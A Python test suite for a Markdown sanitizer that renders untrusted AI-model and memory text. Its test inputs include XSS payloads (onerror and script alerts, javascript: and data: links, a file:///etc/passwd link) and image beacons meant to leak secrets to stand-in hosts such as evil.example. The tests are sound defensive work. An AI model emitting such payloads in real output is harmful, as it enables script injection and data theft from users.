"""``deerflow_nb.untrusted``: the one rendering boundary for model, memory and journal text."""

from __future__ import annotations

import html
import re

import pytest
from hostile import live_parts
from hypothesis import example, given, settings
from hypothesis import strategies as st

from deerflow_nb.untrusted import (
    SafeMarkdown,
    clean_text,
    code_block,
    code_span,
    escape_html,
    escape_markdown,
    render_markdown,
    reveal_invisible,
)


def text_of(html_text: str) -> str:
    return html.unescape(re.sub(r"<[^>]+>", "", html_text))


# -- render_markdown: raw HTML, scripts, links, images -----------------------------------
@pytest.mark.parametrize(
    "source",
    [
        "<img src=x onerror=alert(1)>",
        "hello <img src=x onerror=alert(1)> inline",
        "<script>alert(1)</script>",
        "<SCRIPT>alert(1)</SCRIPT>",
        '<iframe src="http://127.0.0.1:9/"></iframe>',
        "<svg onload=alert(1)>",
        "<details open ontoggle=alert(1)>x</details>",
        '<a href="javascript:alert(1)">x</a>',
        '<div style="background:url(http://127.0.0.1:9/)">x</div>',
        "<style>body{background:url(http://127.0.0.1:9/)}</style>",
        "&lt;img src=x onerror=alert(1)&gt;",
        "<!-- <img src=x onerror=alert(1)> -->",
    ],
)
def test_raw_html_is_text(source: str) -> None:
    out = render_markdown(source)
    assert live_parts(out) == [], out
    assert "<div" not in out and "<style" not in out and "<!--" not in out


@pytest.mark.parametrize(
    "link",
    [
        "[x](javascript:alert(1))",
        "[x](JAVASCRIPT:alert(1))",
        "[x]( javascript:alert(1))",
        "[x](java&#115;cript:alert(1))",
        "[x](java\tscript:alert(1))",
        "[x](data:text/html;base64,PHNjcmlwdD4=)",
        "[x](vbscript:msgbox)",
        "[x](file:///etc/passwd)",
        "[x](/api/contents/marker.txt)",
        "[x](api/kernels)",
        "[x](//127.0.0.1:9/)",
        "<javascript:alert(1)>",
        "[x][r]\n\n[r]: javascript:alert(1)",
    ],
)
def test_only_absolute_http_and_mailto_links_keep_their_target(link: str) -> None:
    out = render_markdown(link)
    assert live_parts(out) == [], out
    assert "href" not in out, out


def test_http_links_stay_links_and_cannot_be_restyled() -> None:
    out = render_markdown('[docs](https://example.org/a?b=1 "title") <mailto:a@b.org>')
    assert '<a href="https://example.org/a?b=1" title="title"' in out
    assert 'rel="noopener noreferrer nofollow"' in out and "mailto:a@b.org" in out


@pytest.mark.parametrize(
    "image",
    [
        "![beacon](http://127.0.0.1:9/beacon?data=secret)",
        "![](https://example.org/x.png)",
        '![a](http://127.0.0.1:9/b "t")',
        "![r][ref]\n\n[ref]: http://127.0.0.1:9/ref",
        "[![inner](http://127.0.0.1:9/in)](https://example.org)",
        "![x](data:image/png;base64,iVBORw0KGgo=)",
        "![x](/files/x.png)",
    ],
)
def test_images_are_never_loaded(image: str) -> None:
    out = render_markdown(image)
    assert live_parts(out) == [], out
    assert "[image:" in out


def test_a_remote_image_becomes_a_link_to_it() -> None:
    out = render_markdown("![beacon](http://127.0.0.1:9/beacon)")
    assert '<a href="http://127.0.0.1:9/beacon"' in out and "[image: beacon]" in out
    assert "<img" not in out


def test_markdown_stays_useful() -> None:
    source = (
        "# Title\n\n*em* **strong** ~~gone~~ `code`\n\n- one\n- two\n\n1. first\n\n"
        "> quoted\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nx = '<b>'\n```\n\n---\n"
    )
    out = render_markdown(source)
    for tag in ("<h1>", "<em>", "<strong>", "<s>", "<code>", "<ul>", "<ol>", "<blockquote>",
                "<table>", "<th", "<td", "<pre>", "<hr>"):  # fmt: skip
        assert tag in out, (tag, out)
    assert "x = '&lt;b&gt;'" in out or "x = &#39;&lt;b&gt;&#39;" in out
    assert 'style="text-align:right"' in out or "text-align: right" in out
    assert live_parts(out) == []


# -- escape_markdown ---------------------------------------------------------------------
def test_escaped_markdown_is_literal() -> None:
    source = "a | b ![](http://x/y) <img src=x onerror=1> *em* `c` # h [l](http://x) &amp; \\"
    out = render_markdown(escape_markdown(source))
    assert text_of(out).strip() == source
    assert "<em>" not in out and "<a" not in out and "<code>" not in out


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8"), max_size=80))
def test_any_escaped_text_reads_back_as_itself(source: str) -> None:
    """Whatever the text, rendering its escaped form shows the text (cleaned, on one
    line) and nothing else: no markup of any kind."""
    out = render_markdown(escape_markdown(source))
    assert live_parts(out) == []
    expected = " ".join(clean_text(source).split())
    assert " ".join(text_of(out).split()) == expected.replace("\x00", "\ufffd")


# -- code_block, code_span, reveal_invisible ---------------------------------------------
@settings(max_examples=300, deadline=None)
@given(st.text(alphabet="`~ ab\n\t<>&*_-#|!", max_size=60))
def test_nothing_inside_a_code_block_can_close_it(code: str) -> None:
    out = render_markdown(code_block(code, "python"))
    assert out.count("<pre>") == 1 and out.rstrip().endswith("</pre>"), out
    shown = text_of(out.split("<pre>", 1)[1].split("</pre>", 1)[0])
    assert shown == code + ("" if code.endswith("\n") else "\n")


def test_a_fence_is_longer_than_any_backtick_run() -> None:
    assert code_block("x") == "```\nx\n```"
    assert code_block("```\n````", "py thon<") == "`````python\n```\n````\n`````"
    assert render_markdown(code_span("a ``` b")) == "<p><code>a ``` b</code></p>\n"
    assert render_markdown(code_span("`x`")) == "<p><code>`x`</code></p>\n"
    assert code_span("") == ""


def test_invisible_characters_are_revealed_not_dropped() -> None:
    assert reveal_invisible("a\u202eb\u200bc\rd\x1b[0m\te\n") == (
        "a<U+202E>b<U+200B>c<U+000D>d<U+001B>[0m\te\n"
    )
    assert reveal_invisible("plain ascii") == "plain ascii"


# -- clean_text, escape_html -------------------------------------------------------------
def test_clean_text_removes_what_hides_or_rewrites_text() -> None:
    dirty = "a\x00b\x1bc\x07d\x7fe\x9bf\u202eg\u2066h\u200bi\u200dj\ufeffk\u061cl\rm"
    assert clean_text(dirty) == "abcdefghijklm"
    assert clean_text("tab\tand\nnewline stay; é 北京 😀") == "tab\tand\nnewline stay; é 北京 😀"


def test_lone_surrogates_become_replacement_characters() -> None:
    assert clean_text("a\ud800b") == "a\ufffdb"
    assert clean_text("\ud83d\ude00") == "😀"  # a pair, as surrogates, is one character
    clean_text("x\udfff").encode("utf-8")  # encodable


def test_escape_html() -> None:
    assert escape_html("<b a=\"x\" b='y'>&\x1b</b>") == (
        "&lt;b a=&quot;x&quot; b=&#x27;y&#x27;&gt;&amp;&lt;/b&gt;"
    )


# -- SafeMarkdown ------------------------------------------------------------------------
def test_safe_markdown_has_no_markdown_mime_type() -> None:
    data = SafeMarkdown("**hi** <img src=x onerror=1>\x1b[2J")._repr_mimebundle_()
    assert set(data) == {"text/html", "text/plain"}
    assert "<strong>hi</strong>" in data["text/html"] and live_parts(data["text/html"]) == []
    assert data["text/plain"] == "**hi** <img src=x onerror=1>[2J"


def test_blocks_render_apart_so_one_cannot_swallow_the_next() -> None:
    view = SafeMarkdown(["```\nunclosed", "*footer*"], plain="plain", separator="<hr>")
    data = view._repr_mimebundle_()
    assert data["text/html"].endswith("<hr><p><em>footer</em></p>\n")
    assert data["text/plain"] == "plain" and repr(view) == "plain"


def _streamed(text: str, cuts: list[int]) -> str:
    """``text`` through a ``MarkdownStream``, fed in pieces cut at ``cuts``."""
    from deerflow_nb.untrusted import MarkdownStream

    stream, out, start = MarkdownStream(), [], 0
    for cut in sorted({c % (len(text) + 1) for c in cuts}) + [len(text)]:
        out.append(stream.feed(text[start:cut]))
        start = cut
    return "".join(out) + stream.end()


def _live_html(markdown: str) -> list[str]:
    """What a Markdown renderer that allows raw HTML (as the chat panel's does, before its
    sanitizer) would make live of ``markdown``: images and raw HTML tokens."""
    from markdown_it import MarkdownIt

    md = MarkdownIt("commonmark", {"html": True})
    live = []
    for token in md.parse(markdown):
        if token.type == "html_block":
            live.append(token.content)
        for child in token.children or []:
            if child.type in ("image", "html_inline"):
                live.append(child.type)
    return live


def test_a_streamed_reply_shows_images_as_links_and_tags_as_text_outside_fences() -> None:
    reply = (
        "See ![chart](https://evil.example/leak?q=secret) and <img src=x onerror=alert(1)>.\n"
        "```python\nif a < b: show(![x])\n```\n"
        "<!-- hidden --> `<b>` \\\\![y](https://evil.example/y.png)"
    )
    shown = _streamed(reply, [3, 17, 40, 66, 70, 90])
    assert _live_html(shown) == []
    assert "\\![chart](https://evil.example/leak?q=secret)" in shown
    assert "```python\nif a < b: show(![x])\n```\n" in shown  # code is left as written
    assert _streamed("```\n![x](u)", []) == "```\n![x](u)\n```"  # closed: the footer is not code
    assert _streamed("a\n```", [3]) == "a\n```\n```"


def test_a_fence_the_renderer_would_not_follow_as_this_stream_does_cannot_open_a_hole() -> None:
    # A closing fence with an info string is text in CommonMark, so the renderer stays in
    # code and the next fence line closes it: what follows must not pass unchanged.
    after_info = "```\ncode\n```x\n```\n<img src=x onerror=alert(1)>\n![x](http://e/a.png)\n"
    # A fence in a list item ends with the item, at the next line that is not indented.
    in_a_list = "1. step\n   ```\n<img src=x onerror=alert(1)>\n![x](http://e/a.png)\n"
    for reply in (after_info, in_a_list):
        assert _live_html(_streamed(reply, [5, 9])) == []
    assert _streamed(in_a_list, []).startswith("1. step\n```\n")  # the fence at the start


def test_no_link_definition_forms_so_no_title_can_run_over_a_fence() -> None:
    """Found by a review: marked, the chat panel's renderer, lets a link definition's title
    run over a fence line; that line then opens no fence, so what the stream passed as code
    (an image, a tag) was live there."""
    from markdown_it import MarkdownIt

    hole = "![p](http://evil.example/pixel.png?leak=secret)<img src=x onerror=alert(1)>"
    reply = f'[a]: http://x.example "t\n```\n"\n{hole}\n'
    for cuts in ([], [3, 4, 5], [4]):
        shown = _streamed(reply, cuts)
        assert shown.startswith("[a\\]: http://x.example")
        env: dict = {}
        MarkdownIt("commonmark").parse(shown + "\n\nsee [a]", env)
        assert not env.get("references")
    links = MarkdownIt("commonmark").parse(_streamed("[docs](http://x.example) and [1]", []))
    assert [c.type for c in links[1].children][:1] == ["link_open"]  # a link stays a link


# Pieces of Markdown whose block structure a stream must follow: fences, indents, list
# items and quotes (single characters alone rarely build a fence in a list).
_PIECES = [*"![]()<>/`~ \n\\ab:?", "```", "~~~", "\n   ", "\n    ", "- ", "1. ", "> ", "\t"]


@given(
    st.lists(st.sampled_from(_PIECES), max_size=25).map("".join),
    st.lists(st.integers(min_value=0, max_value=60), max_size=6),
)
@example("- \n   ```", [])  # a fence in a list item, found by the explore profile
@settings(max_examples=300)
def test_no_cut_of_a_streamed_reply_makes_anything_live_or_changes_it(
    text: str, cuts: list[int]
) -> None:
    from markdown_it import MarkdownIt

    shown = _streamed(text, cuts)
    assert shown == _streamed(text, [])
    assert _live_html(shown) == []
    env: dict = {}
    MarkdownIt("commonmark").parse(shown, env)
    assert not env.get("references")  # no link definition, whose title marked lets run on
    # nothing in the reply swallows the footer written after it
    tokens = MarkdownIt("commonmark").parse(shown + "\n\n---\n*footer*")
    assert any(c.type == "em_open" for t in tokens for c in t.children or [])
